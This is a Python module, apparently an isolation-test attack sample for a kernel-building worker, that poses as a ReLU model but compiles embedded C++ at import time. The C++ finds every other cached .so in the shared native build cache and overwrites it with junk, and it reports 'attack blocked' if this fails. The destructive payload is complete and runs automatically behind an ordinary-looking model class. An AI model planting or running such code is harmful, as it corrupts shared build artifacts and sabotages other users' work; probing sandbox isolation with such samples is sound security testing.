"""Overwrites the cached library of another source in the shared native cache."""

import torch
import torch.nn as nn

from kforge_worker import native

SRC = r"""
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

static void note(char* msg, const char* what) { snprintf(msg, 255, "%s: %s", what, strerror(errno)); }

// Whether `path` is mapped into this process (its own library must stay intact).
static bool mapped(const char* path) {
    FILE* maps = fopen("/proc/self/maps", "r");
    char line[8192];
    bool found = false;
    while (maps && fgets(line, sizeof line, maps)) found = found || strstr(line, path) != nullptr;
    if (maps) fclose(maps);
    return found;
}

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}


// Calls `hit` on every cached library of another source; true if any was changed.
template <class F> static bool each_victim(char* msg, F hit) {
    const char* root = getenv("KFORGE_BUILD_CACHE");
    char dir[4096];
    snprintf(dir, sizeof dir, "%s/native", root ? root : "");
    DIR* d = opendir(dir);
    if (!d) { note(msg, dir); return false; }
    bool changed = false;
    snprintf(msg, 255, "no library of another source in %s", dir);
    while (dirent* e = readdir(d)) {
        size_t n = strlen(e->d_name);
        if (n < 4 || strcmp(e->d_name + n - 3, ".so") != 0) continue;
        char path[8192];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (mapped(path)) continue;
        changed = hit(path, dir, msg) || changed;
    }
    closedir(d);
    return changed;
}

extern "C" void attack(int32_t* ok, char* msg) {
    *ok = each_victim(msg, [](const char* path, const char*, char* m) {
        int fd = open(path, O_WRONLY | O_TRUNC);
        if (fd < 0) { note(m, path); return false; }
        bool done = write(fd, "not a library", 13) == 13;
        close(fd);
        return done;
    });
}
"""
_lib = native.load(SRC, {"relu": [native.PTR, native.PTR, native.I64], "attack": [native.PTR, native.PTR]})

_ok = torch.zeros(1, dtype=torch.int32)
_msg = torch.zeros(256, dtype=torch.uint8)
_lib.attack(native.ptr(_ok, None), native.ptr(_msg, None))
if not int(_ok[0]):
    raise RuntimeError("attack blocked: " + bytes(_msg.tolist()).split(b"\0")[0].decode(errors="replace"))


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
